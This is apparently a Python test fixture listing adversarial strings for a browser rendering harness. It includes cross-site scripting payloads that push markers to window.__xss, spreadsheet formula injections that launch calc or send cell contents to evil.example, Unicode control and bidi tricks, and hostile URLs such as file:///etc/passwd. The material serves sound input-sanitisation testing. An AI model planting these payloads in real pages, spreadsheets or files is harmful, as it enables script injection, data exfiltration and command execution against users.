"""Text as an adversary would put it into handles, tweets, file names and titles.

Whatever of it runs calls `__xss`, which the harness in `browser.py` listens for.
"""

from __future__ import annotations

SCRIPTS = (
    '<img src=x onerror="window.__xss.push(1)">',
    "</script><script>window.__xss.push(2)</script>",
    "<!--<script>window.__xss.push(3)</script>",
    '"><svg onload=window.__xss.push(4)>',
    "javascript:window.__xss.push(5)",
    "';window.__xss.push(6);//",
    "\\';window.__xss.push(7);//",
    "</title><script>window.__xss.push(8)</script>",
    "</style><script>window.__xss.push(9)</script>",
    "</textarea><script>window.__xss.push(10)</script>",
    '<iframe srcdoc="<script>parent.__xss.push(11)</script>"></iframe>',
    '<a href="javascript:window.__xss.push(12)">href</a>',
    "{{7*7}}{% for x in ().__class__.__bases__ %}{{x}}{% endfor %}",
    "${window.__xss.push(13)}",
    "`${window.__xss.push(14)}`",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss.push(15)&gt;">',
    "<details open ontoggle=window.__xss.push(16)>",
    "&lt;img src=x onerror=window.__xss.push(17)&gt;",
    "&#60;script&#62;window.__xss.push(18)&#60;/script&#62;",
    "<template><script>window.__xss.push(19)</script></template>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name=q autofocus onfocus=window.__xss.push(20)>',
    '<object data="data:text/html,<script>parent.__xss.push(21)</script>"></object>',
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "]]><script>window.__xss.push(22)</script>",
    "\u2028window.__xss.push(23)\u2029",
    "--!><script>window.__xss.push(24)</script>",
)
NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "window", "null", "undefined", "NaN", "", " ")
FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "a\rb",
    'a"b,c;d\r\n"e"',
)
UNSEEN = (
    "abc\u202egpj.exe\u202c",
    "\u2066isolated\u2069 \u200f\u061c",
    "ze\u200bro\u200dwi\u2060dth\ufeff",
    "nul\x00bell\x07escape\x1b[2J\x1b]0;owned\x07delete\x7f",
    "c1\x85\x9b31m",
    "half\ufffe\uffff",
    "tag\U000e0041\U000e0042",
    "Z̵̡̢͇̪͔̹̗̮̩̍̏͛̓̕͝a̸̢̛̛̺̩͈͉̳̪̗͑̈́̍̋͠l̶̡̛̛͔̟̮̤̯̖͆̐̂̇͘͝g̷̢̧̨̛̯̞̰̳͛͐̀̋̕o̴̡̢̹͈̦̗̭͊̓̓̿͒͠",
)
ADDRESSES = (
    "see https://evil.example/track.gif?id=1 and http://t.co/abc",
    "HTTPS://EVIL.EXAMPLE/Shout www.evil.example evil.example/path ftp://evil.example/x",
    "https://user:pass@evil.example:8080/a.b/c.d?e=f.g#h.i",
    "data:text/html,<script>window.__xss.push(25)</script> file:///etc/passwd vbscript:msgbox(1)",
    "//evil.example/x \\\\evil.example\\share mail@evil.example",
)
PLAIN = (
    "@Ordinary_Name1",
    "香港 #反修例 🇭🇰 👩‍💻",
    "مرحبا بالعالم",
    "שלום",
    "e.g. an end.Of a sentence 3.14",
    "a" * 600,
)

# Everything, each once.
CORPUS = SCRIPTS + NAMES + FORMULAS + UNSEEN + ADDRESSES + PLAIN
